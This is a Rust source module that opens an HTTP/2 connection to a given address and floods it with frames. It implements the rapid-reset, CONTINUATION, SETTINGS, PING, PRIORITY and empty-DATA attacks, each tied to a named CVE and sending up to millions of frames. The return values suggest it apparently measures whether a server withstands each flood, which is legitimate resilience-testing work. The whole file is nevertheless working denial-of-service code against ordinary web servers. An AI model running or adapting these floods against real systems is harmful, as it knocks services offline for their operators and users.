//! The floods of one HTTP/2 connection, over plain text with prior knowledge: the layer above TLS
//! is the same, and a flood is cheaper to send without it.

use std::{
    io::{ErrorKind, Read as _, Write as _},
    net::{SocketAddr, TcpStream},
    time::{Duration, Instant},
};

use anyhow::{Result, ensure};

use super::{
    End,
    frames::{self, ACK, END_HEADERS, END_STREAM, Frame, Kind},
};

/// How long a server may take to notice.
const PATIENCE: Duration = Duration::from_secs(15);
/// Frames that are sent together.
const BATCH: u32 = 64;

/// Opens streams and resets each at once (CVE-2023-44487).
pub(super) fn rapid_reset(address: SocketAddr) -> Result<End> {
    flood(address, 100_000, Reading::Eager, |out, number| {
        let stream = number * 2 + 1;
        frames::write(
            out,
            Kind::Headers,
            END_HEADERS | END_STREAM,
            stream,
            &frames::get_block(),
        );
        frames::write(out, Kind::ResetStream, 0, stream, &8_u32.to_be_bytes());
    })
}

/// One header block that never ends (CVE-2024-27316 and its kin).
pub(super) fn continuation(address: SocketAddr) -> Result<End> {
    flood(address, 50_000, Reading::Eager, |out, number| {
        if number == 0 {
            frames::write(out, Kind::Headers, END_STREAM, 1, &frames::get_block());
        } else {
            frames::write(
                out,
                Kind::Continuation,
                0,
                1,
                &frames::padding_field(number),
            );
        }
    })
}

/// SETTINGS, each of which must be acknowledged (CVE-2019-9515).
pub(super) fn settings(address: SocketAddr) -> Result<End> {
    // The header table's size, changed each time.
    flood(address, 200_000, Reading::Eager, |out, number| {
        let [_, _, high, low] = (number % 4096).to_be_bytes();
        frames::write(out, Kind::Settings, 0, 0, &[0, 1, 0, 0, high, low]);
    })
}

/// PING, each of which must be answered (CVE-2019-9512).
pub(super) fn ping(address: SocketAddr) -> Result<End> {
    flood(address, 200_000, Reading::Eager, write_ping)
}

/// The same from a client that never reads the answers, which then pile up somewhere.
pub(super) fn ping_unread(address: SocketAddr) -> Result<End> {
    flood(address, 2_000_000, Reading::Never, write_ping)
}

/// PRIORITY on streams that do not exist (CVE-2019-9513).
pub(super) fn priority(address: SocketAddr) -> Result<End> {
    flood(address, 500_000, Reading::Eager, |out, number| {
        frames::write(
            out,
            Kind::Priority,
            0,
            (number % 1_000_000) * 2 + 1,
            &[0, 0, 0, 0, 16],
        );
    })
}

/// DATA frames of no bytes, which cost no flow-control credit (CVE-2019-9518).
pub(super) fn empty_data(address: SocketAddr) -> Result<End> {
    flood(address, 500_000, Reading::Eager, |out, number| {
        if number == 0 {
            frames::write(out, Kind::Headers, END_HEADERS, 1, &post_block());
        } else {
            frames::write(out, Kind::Data, 0, 1, &[]);
        }
    })
}

fn write_ping(out: &mut Vec<u8>, number: u32) {
    frames::write(out, Kind::Ping, 0, 0, &u64::from(number).to_be_bytes());
}

/// As [`frames::get_block`], with the method POST.
fn post_block() -> Vec<u8> {
    let mut block = frames::get_block();
    if let Some(method) = block.first_mut() {
        *method = 0x83;
    }
    block
}

/// Whether the client takes what the server says.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
enum Reading {
    Eager,
    Never,
}

/// Sends up to `most` units until the server says goodbye, closes, or stops reading.
fn flood(
    address: SocketAddr,
    most: u32,
    reading: Reading,
    write: fn(&mut Vec<u8>, u32),
) -> Result<End> {
    let mut stream = open(address)?;
    let began = Instant::now();
    let mut sent = 0;
    let mut answers = Vec::new();
    while sent < most {
        let mut out = Vec::new();
        for number in sent..sent + BATCH {
            write(&mut out, number);
        }
        match push(&mut stream, &out, reading, &mut answers)? {
            Push::Sent => sent += BATCH,
            Push::Closed => return Ok(End::Closed(sent)),
            Push::Blocked => return Ok(End::HeldBack(sent)),
        }
        if began.elapsed() > PATIENCE * 2 {
            break;
        }
    }
    // All is on its way; the server may still be reading it.
    while reading == Reading::Eager && began.elapsed() < PATIENCE * 3 {
        match receive(&mut stream, &mut answers)? {
            Received::Closed => return Ok(End::Closed(sent)),
            Received::Nothing => break,
            Received::Bytes => {}
        }
    }
    Ok(End::Taken(sent))
}

/// Greets, and waits until the server has greeted.
fn open(address: SocketAddr) -> Result<TcpStream> {
    let mut stream = TcpStream::connect_timeout(&address, PATIENCE)?;
    stream.set_nodelay(true)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    let mut greeting = frames::PREFACE.to_vec();
    frames::write(&mut greeting, Kind::Settings, 0, 0, &[]);
    stream.write_all(&greeting)?;
    let mut received = Vec::new();
    let mut buffer = [0; 4096];
    loop {
        let count = stream.read(&mut buffer)?;
        ensure!(count > 0, "the server does not speak HTTP/2 here");
        received.extend(buffer.iter().take(count));
        if frames::take(&mut received).iter().any(|frame| {
            *frame
                == Frame {
                    kind: Kind::Settings,
                    flags: 0,
                }
        }) {
            break;
        }
    }
    let mut answer = Vec::new();
    frames::write(&mut answer, Kind::Settings, ACK, 0, &[]);
    stream.write_all(&answer)?;
    stream.set_nonblocking(true)?;
    Ok(stream)
}

/// What became of a batch.
enum Push {
    Sent,
    Closed,
    Blocked,
}

/// Writes it all, reading meanwhile, so that neither side waits for the other.
fn push(
    stream: &mut TcpStream,
    mut out: &[u8],
    reading: Reading,
    answers: &mut Vec<u8>,
) -> Result<Push> {
    let mut last = Instant::now();
    while !out.is_empty() {
        match stream.write(out) {
            Ok(count) => {
                out = out.get(count..).unwrap_or_default();
                last = Instant::now();
            }
            Err(error) if error.kind() == ErrorKind::WouldBlock => {
                if last.elapsed() > PATIENCE {
                    return Ok(Push::Blocked);
                }
                std::thread::sleep(Duration::from_millis(1));
            }
            Err(error) if is_goodbye(error.kind()) => return Ok(Push::Closed),
            Err(error) => return Err(error.into()),
        }
        if reading == Reading::Eager && matches!(poll(stream, answers)?, Received::Closed) {
            return Ok(Push::Closed);
        }
    }
    Ok(Push::Sent)
}

/// What came from the server.
enum Received {
    Bytes,
    Nothing,
    Closed,
}

/// Waits a few seconds for the server.
fn receive(stream: &mut TcpStream, answers: &mut Vec<u8>) -> Result<Received> {
    let began = Instant::now();
    loop {
        match poll(stream, answers)? {
            Received::Nothing if began.elapsed() < Duration::from_secs(5) => {
                std::thread::sleep(Duration::from_millis(5));
            }
            received @ (Received::Bytes | Received::Nothing | Received::Closed) => {
                return Ok(received);
            }
        }
    }
}

/// Takes what is there. A GOAWAY is the end: what follows it is not answered.
fn poll(stream: &mut TcpStream, answers: &mut Vec<u8>) -> Result<Received> {
    let mut buffer = [0; 16384];
    match stream.read(&mut buffer) {
        Ok(0) => Ok(Received::Closed),
        Ok(count) => {
            answers.extend(buffer.iter().take(count));
            let goodbye = frames::take(answers)
                .iter()
                .any(|frame| frame.kind == Kind::GoAway);
            Ok(if goodbye {
                Received::Closed
            } else {
                Received::Bytes
            })
        }
        Err(error) if error.kind() == ErrorKind::WouldBlock => Ok(Received::Nothing),
        Err(error) if is_goodbye(error.kind()) => Ok(Received::Closed),
        Err(error) => Err(error.into()),
    }
}

fn is_goodbye(kind: ErrorKind) -> bool {
    [
        ErrorKind::ConnectionReset,
        ErrorKind::BrokenPipe,
        ErrorKind::ConnectionAborted,
    ]
    .contains(&kind)
}
